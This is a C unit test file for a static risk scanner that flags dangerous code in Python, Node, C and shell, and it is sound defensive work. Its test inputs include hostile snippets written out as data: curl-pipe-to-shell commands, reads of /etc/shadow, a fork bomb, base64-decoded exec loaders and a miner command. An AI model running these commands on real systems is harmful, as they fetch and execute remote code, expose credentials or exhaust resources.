/* common/risk.c: comments and strings are not code in any language, each rule family is found
 * (also through aliases and names built from pieces), on the right line, denied modules,
 * levels, and input that is empty, binary or not NUL-terminated. */
#include <errno.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#include <criterion/criterion.h>

#include "common/risk.h"

/* ==== Helpers ==== */

static struct risk_report scan_denied(const char *lang, const char *src,
                                      const char *const *denied)
{
    struct risk_report r = {0};

    cr_assert_eq(risk_scan(lang, (const uint8_t *)src, strlen(src), denied, &r), 0);
    return r;
}

static struct risk_report scan(const char *lang, const char *src)
{
    return scan_denied(lang, src, NULL);
}

/* The finding of rule (on line, unless 0), or NULL. */
static const struct risk_finding *find_at(const struct risk_report *r, const char *rule,
                                          uint32_t line)
{
    for (size_t i = 0; i < r->count; i++)
        if (!strcmp(r->findings[i].rule, rule) && (!line || r->findings[i].line == line))
            return &r->findings[i];
    return NULL;
}

static const struct risk_finding *find(const struct risk_report *r, const char *rule)
{
    return find_at(r, rule, 0);
}

static void expect_rule(const char *lang, const char *src, const char *rule, uint32_t line)
{
    struct risk_report r = scan(lang, src);
    const struct risk_finding *f = find(&r, rule);

    cr_expect_not_null(f, "%s: no %s finding in:\n%s", lang, rule, src);
    if (f && line)
        cr_expect_not_null(find_at(&r, rule, line), "%s: %s on line %u, not %u", lang, rule,
                           f->line, line);
    cr_expect_geq(r.level, RISK_MEDIUM, "%s: level %s for:\n%s", lang,
                  risk_level_name(r.level), src);
    risk_report_clear(&r);
}

static void expect_quiet(const char *lang, const char *src)
{
    struct risk_report r = scan(lang, src);

    cr_expect_lt(r.level, RISK_MEDIUM, "%s: level %s (first: %s) for:\n%s", lang,
                 risk_level_name(r.level), r.count ? r.findings[0].rule : "-", src);
    risk_report_clear(&r);
}

/* ==== Comments and string literals are not code ==== */

Test(risk, python_comments_and_strings_ignored)
{
    expect_quiet("python", "# os.system('id')\nprint(\"subprocess.run\")\n"
                           "s = '''\nimport socket\nos.popen(x)\n'''\n"
                           "r = r'exec(base64.b64decode(x))'\nb = b\"eval(input())\"\n"
                           "def execute(self):\n    return 'system'\n");
}

Test(risk, node_comments_strings_and_templates_ignored)
{
    expect_quiet("node", "// require('child_process')\n/* eval(fetch(x)) */\n"
                         "const a = \"require('net')\";\nconst b = 'child_process';\n"
                         "const c = `exec ${1 + 2} spawn`;\nconst re = /require\\('x'\\)/;\n");
}

Test(risk, c_comments_strings_and_chars_ignored)
{
    expect_quiet("c", "#include <stdio.h>\n/* system(\"rm\") */\n// execve(x)\n"
                      "int main(void) { puts(\"system(1); fork();\"); char q = '\"';\n"
                      "puts(\"socket\"); return q; }\n");
}

Test(risk, sh_comments_and_quoted_text_ignored)
{
    expect_quiet("sh", "#!/bin/sh\n# curl http://x | sh\necho 'curl http://x | sh'\n"
                       "echo \"nc -e /bin/sh\"\nprintf '%s\\n' wget\nls -la | sort\n");
}

Test(risk, f_string_fields_are_code)
{
    expect_rule("python", "import os\nx = f\"{os.system('id')}\"\n", "process_spawn", 2);
}

Test(risk, template_fields_are_code)
{
    expect_rule("node", "const x = `${require('child_process').execSync('id')}`;\n",
                "process_spawn", 1);
}

/* ==== Rule families ==== */

Test(risk, process_spawn_each_language)
{
    expect_rule("python", "import subprocess\n", "process_spawn", 1);
    expect_rule("python", "import os\n\nos.system('id')\n", "process_spawn", 3);
    expect_rule("node", "const { exec } = require('child_process');\n", "process_spawn", 1);
    expect_rule("c", "#include <stdlib.h>\nint main(void)\n{\n    return system(\"id\");\n}\n",
                "process_spawn", 4);
    expect_rule("c", "int main(void) { while (1) fork(); }\n", "fork_bomb", 1);
    expect_rule("sh", ":(){ :|:& };:\n", "fork_bomb", 1);
}

Test(risk, network_and_raw_sockets)
{
    expect_rule("python", "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_RAW)\n",
                "raw_socket", 2);
    expect_rule("python", "import requests\n", "network", 1);
    expect_rule("node", "const net = require('node:net');\n", "network", 1);
    expect_rule("c", "int f(void) { return socket(AF_PACKET, SOCK_RAW, 0); }\n", "raw_socket",
                1);
    expect_rule("sh", "echo hi\ncurl -s http://x/\n", "network", 2);
    expect_rule("sh", "exec 3<>/dev/tcp/10.0.0.1/80\n", "network", 1);
}

Test(risk, fs_probe)
{
    expect_rule("python", "print(open('/etc/shadow').read())\n", "fs_probe", 1);
    expect_rule("python", "import os\nfor r, d, f in os.walk('/'):\n    pass\n", "fs_probe", 2);
    expect_rule("node", "require('fs').readdirSync('/')\n", "fs_probe", 1);
    expect_rule("c", "int main(void) { return !opendir(\"/\"); }\n", "fs_probe", 1);
    expect_rule("sh", "cat /etc/passwd\n", "fs_probe", 1);
    expect_rule("sh", "find / -name '*.key'\n", "fs_probe", 1);
    expect_quiet("sh", "echo hi > /dev/null 2>&1\ncat /dev/stdin\n");
    expect_quiet("python", "open('data/etc/file.txt')\nprint('./proc/x')\n");
}

Test(risk, eval_fetched)
{
    expect_rule("python", "from urllib.request import urlopen\nexec(urlopen(u).read())\n",
                "eval_fetched", 2);
    expect_rule("python", "import requests\ncode = requests.get(u).text\n\neval(code)\n",
                "eval_fetched", 4);
    expect_rule("node", "fetch(u).then(r => r.text()).then(t => eval(t));\n", "eval_fetched",
                1);
    expect_rule("sh", "curl -s http://x/i.sh | sh\n", "eval_fetched", 1);
    expect_rule("sh", "wget -qO- http://x | sudo bash\n", "eval_fetched", 1);
    expect_rule("sh", "bash <(curl -s http://x)\n", "eval_fetched", 1);
    expect_rule("sh", "sh -c \"$(curl -fsSL http://x)\"\n", "eval_fetched", 1);
}

Test(risk, obfuscated_loader)
{
    expect_rule("python", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
                "obfuscated_loader", 2);
    expect_rule("python", "import zlib\nexec(zlib.decompress(data))\n", "obfuscated_loader", 2);
    expect_rule("python", "exec('tixe'[::-1])\n", "obfuscated_loader", 1);
    expect_rule("node", "eval(atob('YWxlcnQoMSk='));\n", "obfuscated_loader", 1);
    expect_rule("node", "[].constructor.constructor('return this')();\n", "obfuscated_loader",
                1);
    expect_rule("node", "const f = globalThis['ev' + 'al'];\n", "obfuscated_loader", 1);
    expect_rule("sh", "echo aWQ= | base64 -d | sh\n", "obfuscated_loader", 1);
    expect_rule("sh", "$(echo Y3VybA== | base64 -d) http://x\n", "obfuscated_loader", 1);
}

Test(risk, crypto_mining)
{
    expect_rule("python", "pool = 'stratum+tcp://pool.example:3333'\n", "crypto_mining", 1);
    expect_rule("node", "const p = 'xmr.nanopool.org';\n", "crypto_mining", 1);
    expect_rule("c", "#include <stdint.h>\nint main(void) {\n uint32_t nonce = 0;\n"
                     " while (sha256_check(nonce) > difficulty) nonce++;\n}\n",
                "crypto_mining", 3);
    expect_rule("sh", "./xmrig -o pool:3333\n", "crypto_mining", 1);
}

Test(risk, native_code)
{
    expect_rule("python", "import ctypes\nctypes.CDLL(None).syscall(57)\n", "native_code", 2);
    expect_rule("python", "import mmap\nm = mmap.mmap(-1, 4096, prot=mmap.PROT_EXEC)\n",
                "native_code", 2);
    expect_rule("c", "int main(void) { __asm__ volatile (\"nop\"); return 0; }\n",
                "native_code", 1);
    expect_rule("c", "#include <sys/ptrace.h>\n", "native_code", 1);
    expect_rule("c", "long f(int p) { return ptrace(PTRACE_ATTACH, p, 0, 0); }\n",
                "native_code", 1);
    expect_rule("node", "process.binding('spawn_sync');\n", "native_code", 1);
}

Test(risk, dynamic_import)
{
    expect_rule("python", "import importlib\nm = importlib.import_module(name)\n",
                "dynamic_import", 2);
    expect_rule("python", "m = __import__(input())\n", "dynamic_import", 1);
    expect_rule("node", "const m = require(process.argv[2]);\n", "dynamic_import", 1);
}

/* ==== Evasions ==== */

Test(risk, aliases)
{
    expect_rule("python", "import subprocess as sp\n\nsp.run(['id'])\n", "process_spawn", 3);
    expect_rule("python", "from os import system as s\ns('id')\n", "process_spawn", 1);
    expect_rule("python", "import os as o\n\n\no.popen('id')\n", "process_spawn", 4);
    expect_rule("python", "from os import *\nsystem('id')\n", "process_spawn", 2);
    expect_rule("python", "import urllib.request\nrun = exec\n"
                          "run(urllib.request.urlopen(u).read())\n", "eval_fetched", 3);
    expect_rule("node", "const cp = require('child_' + 'process');\n", "process_spawn", 1);
    expect_rule("node", "import { exec as run } from 'child_process';\n", "process_spawn", 1);
}

Test(risk, names_built_from_pieces)
{
    expect_rule("python", "import os\ngetattr(os, 'sys' + 'tem')('id')\n", "process_spawn", 2);
    expect_rule("python", "import os\ngetattr(os, 'sys' + 'tem')('id')\n", "obfuscated_loader",
                2);
    expect_rule("python", "__import__('o' + 's').popen('id')\n", "process_spawn", 1);
    expect_rule("python", "__import__('o' + 's')\n", "obfuscated_loader", 1);
    expect_rule("node", "const cp = require('child_' + 'process');\n", "obfuscated_loader", 1);
    expect_rule("sh", "a=cu; b=rl\n$a$b http://x\n", "network", 2);
    expect_rule("sh", "f=\"/etc/\"'sha'\"dow\"\ncat \"$f\"\n", "fs_probe", 1);
}

Test(risk, code_inside_shell)
{
    expect_rule("sh", "echo start\npython3 -c 'import os; os.system(\"id\")'\n",
                "process_spawn", 2);
    expect_rule("sh", "python3 - <<EOF\nprint(1)\nimport socket\nEOF\n", "network", 3);
    expect_rule("sh", "node -e \"require('child_process').execSync('id')\"\n",
                "process_spawn", 1);
}

Test(risk, shell_coreutils_are_benign)
{
    expect_quiet("sh", "set -eu\nfor f in *.txt; do\n  wc -l \"$f\" | sort -n > out.txt\n"
                       "done\nx=$(date +%s)\ntar czf a.tgz data\nawk '{s+=$1} END {print s}'\n");
}

Test(risk, benign_python_stays_low)
{
    expect_quiet("python", "import json, re, math, os.path, threading\nfrom collections import "
                           "Counter\nimport sys\n\nclass Job:\n    def execute(self):\n"
                           "        return json.loads(sys.stdin.read())\n\n"
                           "with open('out.txt', 'w') as f:\n    f.write('exec system socket')\n"
                           "t = threading.Thread(target=print)\nx = eval(input())\n");
}

/* ==== Line numbers ==== */

Test(risk, line_numbers_count_every_newline)
{
    const char *src = "'''\na\nb\n'''\n# c\n\"x\\\ny\"\nimport os\nos.system('id')\n";
    struct risk_report r = scan("python", src);
    const struct risk_finding *f = find(&r, "process_spawn");

    cr_assert_not_null(f);
    cr_expect_eq(f->line, 9);
    risk_report_clear(&r);

    expect_rule("node", "/* a\nb\nc */\nconst s = `x\ny`;\nrequire('net');\n", "network", 6);
    expect_rule("c", "/*\n*/\n#define X \\\n  1\nint f(void) { return system(\"x\"); }\n",
                "process_spawn", 5);
    expect_rule("sh", "cat <<EOF\n/etc/passwd is text\nEOF\necho ok\ncurl x\n", "network", 5);
}

/* ==== Denied modules ==== */

Test(risk, denied_modules_per_language)
{
    const char *const py[] = {"json", "numpy", NULL};
    const char *const js[] = {"fs", NULL};
    const char *const c[] = {"sys/mman.h", "pthread", NULL};
    struct risk_report r;
    const struct risk_finding *f;

    r = scan_denied("python", "import sys\nfrom json import loads\nimport numpy.linalg as la\n",
                    py);
    cr_expect_eq(r.count, 2);
    f = find(&r, "denied_module");
    cr_assert_not_null(f);
    cr_expect_eq(f->line, 2);
    cr_expect_eq(f->severity, RISK_CRITICAL);
    cr_expect_eq(r.level, RISK_CRITICAL);
    risk_report_clear(&r);

    r = scan_denied("node", "const fs = require('node:fs/promises');\nimport x from 'fsx';\n",
                    js);
    cr_expect_eq(r.count, 1);
    cr_expect_not_null(find(&r, "denied_module"));
    risk_report_clear(&r);

    r = scan_denied("c", "#include <sys/mman.h>\n#include <pthread.h>\n#include <stdio.h>\n", c);
    cr_expect_eq(r.count, 2);
    risk_report_clear(&r);

    r = scan_denied("python", "m = __import__('nu' + 'mpy')\n", py);
    cr_expect_not_null(find(&r, "denied_module"));
    risk_report_clear(&r);

    r = scan_denied("python", "# import json\nprint('import numpy')\n", py);
    cr_expect_eq(r.count, 0);
    risk_report_clear(&r);
}

/* ==== Levels ==== */

Test(risk, level_is_the_highest_and_report_appends)
{
    struct risk_report r = {0};
    const char *low = "x = eval(input())\n";
    const char *high = "import subprocess\n";

    cr_assert_eq(risk_scan("python", (const uint8_t *)low, strlen(low), NULL, &r), 0);
    cr_expect_eq(r.level, RISK_LOW);
    cr_assert_eq(risk_scan("python", (const uint8_t *)high, strlen(high), NULL, &r), 0);
    cr_expect_eq(r.level, RISK_HIGH);
    cr_expect_eq(r.count, 2);
    cr_assert_eq(risk_scan("python", (const uint8_t *)low, strlen(low), NULL, &r), 0);
    cr_expect_eq(r.level, RISK_HIGH, "a later, lower finding does not lower the level");
    risk_report_clear(&r);
    cr_expect_eq(r.count, 0);
    cr_expect_null(r.findings);
    cr_expect_eq(r.level, RISK_NONE);
}

Test(risk, level_order_and_names)
{
    static const char *const names[] = {"none", "low", "medium", "high", "critical"};

    cr_expect(RISK_NONE < RISK_LOW && RISK_LOW < RISK_MEDIUM && RISK_MEDIUM < RISK_HIGH &&
              RISK_HIGH < RISK_CRITICAL);
    for (int i = RISK_NONE; i <= RISK_CRITICAL; i++) {
        cr_expect_str_eq(risk_level_name(i), names[i]);
        cr_expect_eq(risk_level_parse(names[i]), i);
    }
    cr_expect_null(risk_level_name((enum risk_level)5));
    cr_expect_null(risk_level_name((enum risk_level)-1));
    cr_expect_eq(risk_level_parse("HIGH"), -EINVAL);
    cr_expect_eq(risk_level_parse(""), -EINVAL);
    cr_expect_eq(risk_level_parse(NULL), -EINVAL);
}

/* ==== Odd input ==== */

Test(risk, unknown_language_and_empty_input)
{
    struct risk_report r = {0};
    const char *src = "import subprocess\n";

    cr_expect_eq(risk_scan("cobol", (const uint8_t *)src, strlen(src), NULL, &r), 0);
    cr_expect_eq(r.count, 0);
    cr_expect_eq(r.level, RISK_NONE);
    cr_expect_eq(risk_scan(NULL, (const uint8_t *)src, strlen(src), NULL, &r), 0);
    cr_expect_eq(r.count, 0);
    for (const char *const *l = (const char *const[]){"python", "node", "c", "sh", NULL}; *l;
         l++) {
        cr_expect_eq(risk_scan(*l, (const uint8_t *)"", 0, NULL, &r), 0);
        cr_expect_eq(risk_scan(*l, NULL, 0, NULL, &r), 0);
    }
    cr_expect_eq(r.count, 0);
}

/* The source ends exactly at a page that cannot be read: a read past its end faults. */
static uint8_t *at_page_end(const char *text, size_t n, void **map, size_t *map_len)
{
    size_t page = (size_t)sysconf(_SC_PAGESIZE);
    size_t len = ((n + page - 1) / page + 1) * page;
    uint8_t *base = mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

    cr_assert_neq(base, MAP_FAILED);
    cr_assert_eq(mprotect(base + len - page, page, PROT_NONE), 0);
    *map = base;
    *map_len = len;
    memcpy(base + len - page - n, text, n);
    return base + len - page - n;
}

Test(risk, unterminated_constructs_never_read_past_the_end)
{
    static const char *const cases[] = {
        "'''", "\"abc\\", "f'{x", "x = '", "#", "/*", "`${", "`${a", "'\\", "/[", "#include <",
        "#include \"a", "\"", "'", "cat <<EOF\nx", "echo \"$(", "$'\\", "a\\", "$((", "`",
        "getattr(", "__import__(", "require(", "import", "from x import (", "exec(", "f(\"",
        "x = eval(", "<<", "python3 -c", "bash <(", "(void (*", "asm"};
    static const char *const langs[] = {"python", "node", "c", "sh"};

    for (size_t i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
        for (size_t l = 0; l < 4; l++) {
            void *map;
            size_t map_len, n = strlen(cases[i]);
            uint8_t *src = at_page_end(cases[i], n, &map, &map_len);
            struct risk_report r = {0};

            cr_expect_eq(risk_scan(langs[l], src, n, NULL, &r), 0);
            /* every prefix too: each one ends inside a construct */
            for (size_t k = 0; k < n; k++)
                cr_expect_eq(risk_scan(langs[l], src + n - k, k, NULL, &r), 0);
            risk_report_clear(&r);
            munmap(map, map_len);
        }
    }
}

Test(risk, binary_input_never_crashes)
{
    static const char *const langs[] = {"python", "node", "c", "sh"};
    size_t n = 1 << 16;
    uint8_t *buf = malloc(n);
    uint32_t x = 2463534242u;

    cr_assert_not_null(buf);
    for (int round = 0; round < 8; round++) {
        for (size_t i = 0; i < n; i++) {
            x ^= x << 13;
            x ^= x >> 17;
            x ^= x << 5;
            /* later rounds lean on the bytes that open and close constructs */
            buf[i] = round < 4 ? (uint8_t)x : (uint8_t)"'\"`$({[#/*\\\n<>|&;)}] x"[x % 23];
        }
        for (size_t l = 0; l < 4; l++) {
            struct risk_report r = {0};

            cr_expect_eq(risk_scan(langs[l], buf, n, NULL, &r), 0);
            cr_expect_leq(r.level, RISK_CRITICAL);
            for (size_t k = 0; k < r.count; k++)
                cr_expect(r.findings[k].line >= 1 && r.findings[k].rule[0]);
            risk_report_clear(&r);
        }
    }
    free(buf);
}
